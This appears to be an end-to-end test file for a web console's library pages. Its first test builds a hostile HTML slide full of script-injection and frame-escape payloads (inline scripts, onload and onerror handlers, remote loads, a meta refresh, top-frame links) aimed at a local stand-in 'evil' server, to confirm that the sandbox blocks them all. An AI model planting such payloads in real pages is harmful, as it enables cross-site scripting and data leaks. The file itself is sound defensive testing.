import { once } from 'node:events'
import { type AddressInfo, createServer } from 'node:net'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { people, sessions } from '../../src/demo/identities.ts'
import { uuid } from '../../src/demo/uuid.ts'
import { encodeNodeId } from '../../src/schema/node-id.ts'
import { signTokenFor } from '../support/client.ts'
import { chromiumPath } from './browser.ts'
import { setUpDemoConsole } from './set-up.ts'

/**
 * A slide that tries to run scripts, to send requests, and to leave its frame. The browser's protocol does not report
 * requests of sandboxed frames: `evil` is a server that counts connections.
 */
const hostileSlide = (evil: string) => {
  const act = `self.pwned=1;top.pwned=1;fetch('${evil}/')`
  return `<!doctype html><html><head><title>x</title>
<script>${act}</script><script src="${evil}/x.js"></script>
<meta http-equiv="refresh" content="0;url=${evil}/"><base href="${evil}/">
<link rel="stylesheet" href="${evil}/x.css"><link rel="prefetch" href="${evil}/y"><link rel="icon" href="${evil}/i.png">
<link rel="preload" as="image" href="${evil}/p.png"><link rel="modulepreload" href="${evil}/m.js">
<style>@import '${evil}/x.css';@font-face{font-family:x;src:url(${evil}/f)}
h1{color:rgb(1,2,3);font-family:x;background:url(${evil}/b.png)}</style></head>
<body onload="${act}"><h1 style="letter-spacing:3px">Hostile</h1>
<img src=x onerror="${act}"><img src="${evil}/x.png"><svg onload="${act}"></svg>
<iframe src="${evil}/"></iframe><iframe srcdoc="<script>top.pwned=1</script><img src=${evil}/z>"></iframe>
<object data="${evil}/"></object><video src="${evil}/v" autoplay></video>
<form action="${evil}/"><button id="send">Send</button></form>
<a id="top" target="_top" href="${evil}/">top</a> <a id="self" href="${evil}/">self</a>
<a id="blank" target="_blank" href="${evil}/" ping="${evil}/">blank</a></body></html>`
}

describe.skipIf(!chromiumPath)('the library', () => {
  const site = setUpDemoConsole()
  let connections = 0
  const server = createServer((socket) => {
    connections += 1
    socket.destroy()
  })
  let evil: string
  beforeAll(async () => {
    await once(server.listen(0, '127.0.0.1'), 'listening')
    evil = `https://127.0.0.1:${(server.address() as AddressInfo).port}`
  })
  afterAll(() => {
    server.close()
  })

  it('frames a slide with its styles, without scripts, requests or a way out', async () => {
    await site.database.query('update slide_contents set slide_content = $2 where id = $1', [
      uuid(`slide ${sessions.slides} Board deck Q3 2`),
      hostileSlide(evil),
    ])
    const { page, problems, blocked } = await site.open()
    await page.goto(`/console/library/slides/${sessions.slides}?name=Board+deck+Q3&slide=2`)
    const slide = page.frameLocator('.slide-frame').frameLocator('iframe[sandbox=""]')
    const heading = slide.getByRole('heading', { name: 'Hostile' })
    await heading.waitFor()
    const pages = page.context().pages().length
    expect(await heading.evaluate((element) => getComputedStyle(element).color)).toBe('rgb(1, 2, 3)')
    expect(await heading.evaluate((element) => getComputedStyle(element).letterSpacing)).toBe('3px')
    for (const id of ['#send', '#top', '#blank', '#self']) await slide.locator(id).click()
    await page.waitForTimeout(500)
    expect(connections).toBe(0)
    expect(await page.evaluate(() => (self as { pwned?: unknown }).pwned)).toBeUndefined()
    // Of a sandboxed frame, requests that the policy stops are reported in some runs and not in others.
    expect(problems.filter((one) => !blocked.includes(one))).toEqual([])
    expect(page.context().pages()).toHaveLength(pages)
    expect(new URL(page.url()).origin).toBe(new URL(site.url).origin)
  })

  it('loads pictures of a slide from other servers only where they are asked for', async () => {
    await site.database.query('update slide_contents set slide_content = $2 where id = $1', [
      uuid(`slide ${sessions.slides} Board deck Q3 3`),
      `<h1>Pictures</h1><img src="${evil}/x.png">`,
    ])
    const { page, problems, blocked } = await site.open()
    await page.goto(`/console/library/slides/${sessions.slides}?name=Board+deck+Q3&slide=3`)
    const slide = page.frameLocator('.slide-frame').frameLocator('iframe')
    await slide.getByRole('heading', { name: 'Pictures' }).waitFor()
    await page.waitForTimeout(300)
    expect(connections).toBe(0)
    expect(problems.filter((one) => !blocked.includes(one))).toEqual([])
    await page.getByRole('button', { name: 'Show pictures' }).click()
    await expect.poll(() => connections).toBeGreaterThan(0)
    const asked = [...blocked, `request: ${evil}/x.png`]
    expect(problems.filter((one) => !asked.includes(one))).toEqual([])
  })

  it('turns the pages of a storybook with the keyboard, keeps the page in the address, and opens versions', async () => {
    const { page, problems } = await site.open()
    await page.goto(`/console/library/storybooks/${uuid('storybook lighthouse 3')}`)
    await page.getByText('1 of 6').waitFor()
    await page.getByRole('button', { name: 'Next page' }).focus()
    for (let turns = 0; turns < 8; turns += 1) await page.keyboard.press('Enter')
    await page.getByText('6 of 6').waitFor()
    expect(new URL(page.url()).searchParams.get('page')).toBe('6')
    await page.reload()
    await page.getByText('6 of 6').waitFor()
    await page.getByText('every boat comes home').waitFor()
    await page.getByRole('link', { name: /Version 1/ }).click()
    await page.getByRole('heading', { name: 'The lighthouse that was afraid of the dark' }).waitFor()
    expect(problems).toEqual([])
  })

  it('shows a page of a storybook as soon as it is written', async () => {
    const { page } = await site.open()
    await page.goto(`/console/library/storybooks/${uuid('storybook snail')}?page=1`)
    await page.getByText('1 of 4 pages are made.').waitFor()
    await site.database.query(
      `update storybooks set style_json = jsonb_set(style_json::jsonb, '{generation,completed_pages}', '3') where id = $1`,
      [uuid('storybook snail')],
    )
    await page.getByText('3 of 4 pages are made.').waitFor()
  })

  it('lists a presentation, and its slides, as soon as they are written', async () => {
    const { page } = await site.open()
    await page.goto('/console/library/slides')
    await page.locator('.item-rows li').first().waitFor()
    // The subscription's first state is no change.
    await page.waitForTimeout(1_000)
    const add = (number: number) =>
      site.database.query(
        `insert into slide_contents (session_id, presentation_name, slide_number, slide_title, slide_content)
         values ($1, 'A new deck', $2, 'Title', '<p>Text</p>')`,
        [sessions.website, number],
      )
    await add(1)
    const row = page.locator('.item-rows li', { hasText: 'A new deck' })
    await row.getByText('1 slide', { exact: true }).waitFor()
    await add(2)
    await row.getByText('2 slides', { exact: true }).waitFor()
  })

  it('shows states of deployments as they change, in the list and in the project', async () => {
    const project = uuid('project roastery')
    const list = await site.open()
    const item = await site.open()
    await list.page.goto('/console/library/projects')
    await item.page.goto(`/console/library/projects/${project}`)
    const row = list.page.locator('.item-rows li', { hasText: 'roastery' })
    await row.getByText('Published').waitFor()
    await item.page.getByText('Version 4').waitFor()
    await site.database.query(
      `insert into project_deployments (id, project_id, version, deployment_status, provider, environment, deployed_by_user_id)
       values (gen_random_uuid(), $1, 5, 'building', 'cloud_run', 'production', $2)`,
      [project, people.demo.id],
    )
    await row.getByText('Building').waitFor()
    await item.page.locator('.item-rows li', { hasText: 'Version 5' }).getByText('Building').waitFor()
    for (const { problems } of [list, item]) {
      expect(problems).toEqual([])
    }
  })

  it('searches files by name and kind, keeps both in the address, and opens one', async () => {
    const { page, problems } = await site.open()
    await page.goto('/console/library/files')
    await page.getByLabel('File name contains').fill('lighthouse')
    await page.keyboard.press('Enter')
    await page.getByText('2 in all').waitFor()
    await page.getByLabel('Kind').selectOption('AUDIO')
    await page.getByText('1 in all').waitFor()
    await page.reload()
    await page.getByText('1 in all').waitFor()
    await page.getByRole('link', { name: 'lighthouse-1.mp3' }).click()
    await page.getByText('402 kB').waitFor()
    await page.getByRole('link', { name: 'The lighthouse that was afraid of the dark' }).click()
    await page.locator('.message').first().waitFor()
    expect(problems).toEqual([])
  })

  it('reads all files, page after page, as the list is scrolled', async () => {
    await site.database.query(
      `insert into user_assets (id, user_id, asset_type, storage_path, file_name, source, upload_status)
       select gen_random_uuid(), $1, 'document', 'x/' || n, 'many ' || n, 'user_upload', 'complete'
       from generate_series(1, 130) n`,
      [people.demo.id],
    )
    const { page, problems } = await site.open()
    await page.goto('/console/library/files?name=many')
    await page.getByText('130 in all').waitFor()
    const rows = page.locator('.item-rows li')
    await expect.poll(() => rows.count()).toBeGreaterThanOrEqual(50)
    for (let scrolls = 0; scrolls < 20 && (await rows.count()) < 130; scrolls += 1) {
      await page.locator('main').evaluate((main) => main.scrollTo(0, main.scrollHeight))
      await page.waitForTimeout(100)
    }
    const names = await rows.locator('.item-name').allInnerTexts()
    expect(new Set(names).size).toBe(130)
    expect(names).toHaveLength(130)
    expect(problems).toEqual([])
  })

  it('says where there is nothing yet', async () => {
    const { page, problems } = await site.open({ token: await signTokenFor(people.nora) })
    for (const [tab, text] of [
      ['storybooks', 'No storybooks yet'],
      ['slides', 'No slides yet'],
      ['files', 'No files yet'],
      ['projects', 'No projects yet'],
    ]) {
      await page.goto(`/console/library/${tab}`)
      await page.getByRole('heading', { name: text ?? '' }).waitFor()
    }
    expect(problems).toEqual([])
  })

  it.each([
    ['a missing storybook', 'storybooks/0d9c6a3e-8a4e-4b6e-9d0a-1f5f0f1c2b3a'],
    ['another user’s storybook', `storybooks/${uuid('storybook maria')}`],
    ['a missing presentation', `slides/${sessions.slides}?name=none`],
    ['another user’s presentation', `slides/${sessions.mariaPrivate}?name=none`],
    ['no name of a presentation', `slides/${sessions.slides}`],
    ['a missing file', `files/${encodeNodeId('UserAsset', '0d9c6a3e-8a4e-4b6e-9d0a-1f5f0f1c2b3a')}`],
    ['the id of something else', `files/${encodeNodeId('Session', sessions.slides)}`],
    ['an invalid id', 'files/x'],
    ['a missing project', 'projects/0d9c6a3e-8a4e-4b6e-9d0a-1f5f0f1c2b3a'],
    ['an invalid id of a project', 'projects/-'],
  ])('answers %s with the page for what is missing', async (_what, place) => {
    const { page, problems } = await site.open()
    await page.goto(`/console/library/${place}`)
    await page.getByRole('heading', { name: 'Nothing here' }).waitFor()
    expect(problems).toEqual([])
  })
})
